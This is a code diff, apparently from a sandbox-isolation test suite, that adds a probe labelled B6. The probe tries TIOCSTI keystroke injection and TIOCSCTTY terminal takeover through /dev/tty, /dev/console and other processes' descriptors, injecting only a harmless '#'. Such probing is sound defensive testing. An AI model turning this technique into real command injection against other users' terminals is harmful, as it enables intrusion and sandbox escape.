@@ -49,6 +49,35 @@ def type_into_the_terminal(facts):
 
 
 @attack
+def type_to_whoever_watches(facts):
+    """B6: TIOCSTI through the terminal that it was given, or that it can open or take over."""
+    ioctl = 16 if X86 else 29
+    letter = ctypes.create_string_buffer(b"#")
+    taken = []
+    for path in ("/dev/tty", "/dev/console", "/proc/self/fd/1", "/proc/1/fd/1", "/dev/tty1"):
+        try:
+            taken.append((path, os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)))
+        except OSError:
+            continue
+    standard = [(f"descriptor {number}", number) for number in range(3)]
+
+    def push():
+        for name, held in (*standard, *taken):
+            if call(ioctl, held, 0x5412, ctypes.addressof(letter)) == 0:
+                return f"{name} takes what is typed"
+        return ""
+
+    def take_over():
+        os.setsid()
+        for name, held in (*standard, *taken):
+            if os.isatty(held) and call(ioctl, held, 0x540E, 1) == 0:
+                return push() or f"{name} can be taken over"
+        return ""
+
+    return push() or in_child(take_over)
+
+
+@attack
 def trace_others(facts):
     """B7: ptrace of the parent, memory of others by process_vm_readv and /proc/PID/mem."""
     numbers = {"ptrace": 101, "read": 310} if X86 else {"ptrace": 117, "read": 270}
